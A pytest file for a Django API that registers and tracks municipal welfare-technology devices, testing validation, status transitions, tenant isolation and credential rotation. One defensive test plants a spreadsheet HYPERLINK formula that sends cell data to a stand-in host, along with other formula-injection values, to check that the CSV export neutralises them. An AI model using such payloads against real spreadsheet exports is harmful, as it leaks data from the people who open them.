import csv
import io

import pytest

from backend.timeutil import municipal_today
from notifications.models import ReminderOccurrence
from tests import factories
from tests.velfaerdsteknologi.conftest import count_queries
from tests.velfaerdsteknologi.factories import DeviceModelFactory
from velfaerdsteknologi.models import Device, DeviceCredential, DeviceTransition, MaintenanceTask
from velfaerdsteknologi.services.maintenance import maintenance_schedule

pytestmark = pytest.mark.django_db


def register(client, model, serial, **extra):  # type: ignore[no-untyped-def]
    return client.post("/api/v1/devices", {"model_id": str(model.pk), "serial_number": serial, **extra})


def test_registering_puts_the_device_in_stock_with_history_and_maintenance(world, it_client, fall_detector_model):
    response = register(it_client, fall_detector_model, "TN-1", imei="356938035643809", location="Lager 1")
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["status"] == "in_stock" and body["imei"] == "356938035643809"
    assert body["next_service_due"] is not None
    device = Device.objects.get(pk=body["id"])
    assert device.municipality == world.municipality
    transition = device.transitions.get()
    assert (transition.from_status, transition.to_status, transition.by) == ("", "in_stock", world.it_staff.user)
    assert set(MaintenanceTask.objects.filter(device=device).values_list("kind", flat=True)) == {
        "service",
        "test_call",
        "battery_check",
    }


def test_serial_is_unique_per_model_and_imei_unique_overall(it_client, fall_detector_model):
    other_model = DeviceModelFactory()
    assert register(it_client, fall_detector_model, "X-1", imei="111111111111111").status_code == 201
    assert register(it_client, other_model, "X-1").status_code == 201
    duplicate = register(it_client, fall_detector_model, "X-1")
    assert duplicate.status_code == 422
    assert duplicate.json()["errors"][0]["field"] == "serial_number"
    same_imei = register(it_client, fall_detector_model, "X-2", imei="111111111111111")
    assert same_imei.status_code == 422 and same_imei.json()["errors"][0]["field"] == "imei"
    assert Device.objects.filter(serial_number="X-2").count() == 0


def test_bad_device_input_names_the_field(it_client, fall_detector_model):
    response = register(it_client, fall_detector_model, "Y-1", imei="12ab")
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "imei"
    unknown_model = it_client.post(
        "/api/v1/devices", {"model_id": "00000000-0000-4000-8000-000000000000", "serial_number": "Y-2"}
    )
    assert unknown_model.status_code == 422 and unknown_model.json()["errors"][0]["field"] == "model_id"
    assert not Device.objects.filter(serial_number__startswith="Y-").exists()


@pytest.mark.parametrize("serial", ["BAD SERIAL!", "VIG-", "VIG 0001", "=1+1", "VIG\n1"])
def test_a_serial_number_not_written_as_on_a_device_is_refused(it_client, fall_detector_model, serial):
    response = register(it_client, fall_detector_model, serial)
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "serial_number"
    assert not Device.objects.filter(model=fall_detector_model).exists()
    assert register(it_client, fall_detector_model, "AB-12.3/x_4").status_code == 201


def test_only_legal_transitions_are_allowed_and_each_is_recorded(world, it_client):
    device_id = world.device.pk
    move = lambda status: it_client.post(  # noqa: E731
        f"/api/v1/devices/{device_id}/transitions", {"to_status": status, "reason": f"til {status}"}
    )
    assert move("in_repair").status_code == 200
    illegal = move("cleaning")
    assert illegal.status_code == 409 and illegal.json()["code"] == "illegal_transition"
    assert move("in_use").json()["code"] == "use_assignment"
    assert move("retired").status_code == 200
    history = it_client.get(f"/api/v1/devices/{device_id}/transitions").json()["items"]
    assert [(item["from_status"], item["to_status"]) for item in history] == [
        ("in_repair", "retired"),
        ("in_stock", "in_repair"),
    ]
    assert history[0]["reason"] == "til retired" and history[0]["by_name"] == world.it_staff.user.display_name
    assert not DeviceCredential.objects.filter(device=world.device, revoked_at__isnull=True).exists()
    assert move("in_stock").status_code == 409


def test_it_of_another_municipality_sees_no_device(world):
    from tests.conftest import access_token_for

    stranger = factories.StaffFactory()
    it_team = factories.TeamFactory(unit=factories.OrganisationUnitFactory(municipality=stranger.municipality))
    factories.MembershipFactory(staff=stranger, team=it_team, role="it")
    client = type(world.client("it"))(access_token_for(stranger.user, "staff"))
    assert client.get(f"/api/v1/devices/{world.device.pk}").status_code == 404
    assert client.get("/api/v1/devices").json()["items"] == []
    before = DeviceTransition.objects.count()
    response = client.post(f"/api/v1/devices/{world.device.pk}/transitions", {"to_status": "lost", "reason": "x"})
    assert response.status_code == 404 and DeviceTransition.objects.count() == before


def test_list_filters_search_and_constant_queries(world, it_client, fall_detector_model):
    def listing():  # type: ignore[no-untyped-def]
        return it_client.get("/api/v1/devices")

    small, _ = count_queries(listing)
    factories.DeviceFactory.create_batch(30, municipality=world.municipality, model=fall_detector_model)
    large, response = count_queries(listing)
    assert small == large
    assert len(response.json()["items"]) == 31
    Device.objects.filter(serial_number=world.device.serial_number).update(imei="490154203237518")
    found = it_client.get("/api/v1/devices", {"search": "490154203237518"}).json()["items"]
    assert [item["id"] for item in found] == [str(world.device.pk)]
    by_model = it_client.get("/api/v1/devices", {"model_id": str(fall_detector_model.pk)}).json()["items"]
    assert len(by_model) == 30
    assert it_client.get("/api/v1/devices", {"status": "broken"}).status_code == 422


def test_credentials_issue_rotate_and_revoke(world, it_client, anonymous):
    device_path = f"/api/v1/devices/{world.device.pk}"
    issued = it_client.post(f"{device_path}/credentials")
    assert issued.status_code == 201
    token = issued.json()["token"]
    assert token.startswith("mdt_")
    assert DeviceCredential.objects.filter(secret_hash__contains=token).count() == 0
    # The world's first token stopped working when the new one was issued.
    assert (
        anonymous.get("/api/v1/device/me", headers={"Authorization": f"Bearer {world.device_token}"}).status_code == 401
    )
    me = anonymous.get("/api/v1/device/me", headers={"Authorization": f"Bearer {token}"})
    assert me.status_code == 200 and me.json()["serial_number"] == world.device.serial_number
    listed = it_client.get(f"{device_path}/credentials").json()["items"]
    assert "token" not in listed[0] and "secret_hash" not in listed[0]
    revoked = it_client.delete(f"{device_path}/credentials/{issued.json()['id']}")
    assert revoked.status_code == 200 and revoked.json()["revoked_at"]
    assert anonymous.get("/api/v1/device/me", headers={"Authorization": f"Bearer {token}"}).status_code == 401


def test_export_is_csv_with_a_header_and_one_row_per_device(world, it_client):
    response = it_client.get("/api/v1/devices/export")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    lines = response.content.decode().strip().splitlines()
    assert lines[0].startswith("serial_number,manufacturer,model_number")
    assert len(lines) == 2 and world.device.serial_number in lines[1]


def test_export_keeps_free_text_from_running_as_a_spreadsheet_formula(world, it_client):
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Klik")'
    Device.objects.filter(pk=world.device.pk).update(location=formula, serial_number="@SUM(1+1)")
    factories.DeviceFactory(municipality=world.municipality, serial_number="SN-PLAIN", location="Lager 2")
    response = it_client.get("/api/v1/devices/export")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    cells = [(row["serial_number"], row["location"]) for row in rows]
    assert ("'@SUM(1+1)", f"'{formula}") in cells and ("SN-PLAIN", "Lager 2") in cells
    dangerous = [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
    assert dangerous == []


def test_retiring_a_device_cancels_its_maintenance_reminders(world, it_client):
    reminders = ReminderOccurrence.objects.filter(refs__device_id=str(world.device.pk))
    maintenance_schedule(device=world.device, today=municipal_today())
    assert reminders.filter(status=ReminderOccurrence.Status.SCHEDULED).exists()
    moved = it_client.post(
        f"/api/v1/devices/{world.device.pk}/transitions", {"to_status": "retired", "reason": "Defekt"}
    )
    assert moved.status_code == 200, moved.content
    assert set(reminders.values_list("status", flat=True)) == {ReminderOccurrence.Status.CANCELLED}
